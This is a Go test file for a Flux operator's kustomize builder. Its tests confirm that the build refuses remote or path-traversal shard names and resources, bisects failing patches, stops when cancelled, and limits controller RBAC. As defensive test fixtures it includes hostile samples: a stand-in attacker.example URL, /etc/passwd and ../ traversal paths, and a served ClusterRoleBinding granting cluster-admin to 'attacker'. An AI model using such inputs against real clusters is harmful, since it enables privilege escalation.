package builder

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/kustomize/kyaml/filesys"

	apiv1 "github.com/fluxops/flux-operator/apis/fluxcd/v1"
	"github.com/fluxops/flux-operator/controllers/distribution"
)

// remoteTrap serves a manifest over HTTP and puts a git on PATH, counting
// what kustomize would fetch or clone.
type remoteTrap struct {
	url            string
	fetches, clone *atomic.Int64
	gitLog         string
}

func newRemoteTrap(t *testing.T) *remoteTrap {
	t.Helper()
	tr := &remoteTrap{fetches: &atomic.Int64{}, clone: &atomic.Int64{}}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		tr.fetches.Add(1)
		_, _ = fmt.Fprint(w, "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: attacker\n"+
			"roleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\n"+
			"subjects:\n- kind: User\n  name: attacker\n")
	}))
	t.Cleanup(srv.Close)
	tr.url = srv.URL
	dir := t.TempDir()
	tr.gitLog = filepath.Join(dir, "git.log")
	script := "#!/bin/sh\necho \"$@\" >> " + tr.gitLog + "\nexit 1\n"
	if err := os.WriteFile(filepath.Join(dir, "git"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", dir)
	return tr
}

func (tr *remoteTrap) gitRuns() int {
	data, _ := os.ReadFile(tr.gitLog)
	return strings.Count(string(data), "\n")
}

func TestAShardNamedByAURLOrARepositoryIsRefusedAndNothingIsFetched(t *testing.T) {
	tr := newRemoteTrap(t)
	for _, shard := range []string{tr.url + "/x.yaml", "github.com/attacker/flux-shard", "../../../etc", "Shard1", "a b",
		strings.Repeat("s", apiv1.MaxShardNameLength+1)} {
		t.Run(shard, func(t *testing.T) {
			spec := defaultSpec()
			spec.Sharding = &apiv1.Sharding{Shards: []string{"shard1", shard}}
			res, err := Build(context.Background(), Request{Spec: &spec, Distribution: distribution.Embedded()})
			if err == nil {
				for _, o := range res.Objects {
					if o.GetName() == "attacker" {
						t.Errorf("the build applied the fetched %s %s", o.GetKind(), o.GetName())
					}
				}
				t.Fatalf("the shard %q was built", shard)
			}
			if !strings.Contains(err.Error(), "spec.sharding.shards[1]") || !strings.Contains(err.Error(), "is not a valid shard name") {
				t.Errorf("error %q does not name spec.sharding.shards[1] and say why", err)
			}
		})
	}
	if n := tr.fetches.Load(); n > 0 {
		t.Errorf("the build fetched a shard name over HTTP %d times", n)
	}
	if n := tr.gitRuns(); n > 0 {
		t.Errorf("the build ran git %d times", n)
	}
}

func TestTheBuildRefusesAKustomizationResourceOutsideItsTree(t *testing.T) {
	fsys := filesys.MakeFsInMemory()
	for name, data := range map[string]string{
		root + "/kustomization.yaml":          "resources:\n- a.yaml\n- shards/0\n",
		root + "/a.yaml":                      "kind: ConfigMap\n",
		root + "/shards/0/kustomization.yaml": "resources:\n- ../../a.yaml\n- https://attacker.example/x.yaml\n",
	} {
		if err := fsys.MkdirAll(filepath.Dir(name)); err != nil {
			t.Fatal(err)
		}
		if err := fsys.WriteFile(name, []byte(data)); err != nil {
			t.Fatal(err)
		}
	}
	err := localResources(fsys, root)
	var be *buildError
	if !errors.As(err, &be) || !strings.Contains(err.Error(), `shards/0 names "https://attacker.example/x.yaml", which is not in the build's tree`) {
		t.Errorf("localResources = %v, want a buildError naming the remote resource", err)
	}
	for _, out := range []string{"../a.yaml", "/etc/passwd"} {
		if err := fsys.WriteFile(root+"/kustomization.yaml", []byte("resources:\n- "+out+"\n")); err != nil {
			t.Fatal(err)
		}
		if err := localResources(fsys, root); err == nil {
			t.Errorf("the resource %s outside the tree was accepted", out)
		}
	}
}

func TestAFailingPatchIsFoundInLogarithmicallyManyBuilds(t *testing.T) {
	spec := defaultSpec()
	spec.Kustomize = &apiv1.Kustomize{}
	const bad = 72
	for i := range apiv1.MaxPatches {
		p := apiv1.Patch{Patch: fmt.Sprintf("- op: add\n  path: /metadata/annotations/patch-%d\n  value: x\n", i),
			Target: &apiv1.PatchSelector{Kind: "Deployment", Name: "source-controller"}}
		if i == bad {
			p.Patch = "- op: replace\n  path: /spec/template/spec/containers/5/image\n  value: x\n"
		}
		spec.Kustomize.Patches = append(spec.Kustomize.Patches, p)
	}
	_, runs, err := buildCounting(context.Background(), Request{Spec: &spec, Distribution: distribution.Embedded()})
	if err == nil || !strings.Contains(err.Error(), fmt.Sprintf("spec.kustomize.patches[%d] (target kind=Deployment, name=source-controller) failed", bad)) {
		t.Fatalf("error %v does not name patch %d", err, bad)
	}
	// The build, the build without patches, and a bisection of 100.
	if runs > 9 {
		t.Errorf("%d kustomize builds to explain one failing patch of %d; a bisection needs at most 9", runs, apiv1.MaxPatches)
	}
}

func TestACancelledBuildStopsBeforeKustomizeRuns(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	spec := defaultSpec()
	_, runs, err := buildCounting(ctx, Request{Spec: &spec, Distribution: distribution.Embedded()})
	if !errors.Is(err, context.Canceled) || runs > 1 {
		t.Errorf("a cancelled build: %v after %d kustomize runs, want context.Canceled before any", err, runs)
	}
}

// crd-controller is bound to source-, notification- and the image
// controllers; writing a FluxInstance is as good as cluster-admin, so none
// of them may.
func TestNoFluxControllerMayWriteTheOperatorsKinds(t *testing.T) {
	spec := defaultSpec()
	spec.Components = allComponents()
	res := build(t, spec)
	found := false
	for _, o := range res.Objects {
		if o.GetKind() != "ClusterRole" && o.GetKind() != "Role" {
			continue
		}
		rules, _, _ := unstructured.NestedSlice(o.Object, "rules")
		for _, r := range rules {
			rule, _ := r.(map[string]any)
			groups, _, _ := unstructured.NestedStringSlice(rule, "apiGroups")
			verbs, _, _ := unstructured.NestedStringSlice(rule, "verbs")
			if !slices.Contains(groups, apiv1.GroupVersion.Group) && !slices.Contains(groups, "*") {
				continue
			}
			found = found || o.GetName() == "crd-controller-flux-system"
			for _, v := range verbs {
				if v != "get" && v != "list" && v != "watch" {
					t.Errorf("%s %s grants %q on %v", o.GetKind(), o.GetName(), v, groups)
				}
			}
		}
	}
	if !found {
		t.Errorf("crd-controller does not let notification-controller read the FluxInstances its Alerts name")
	}
}
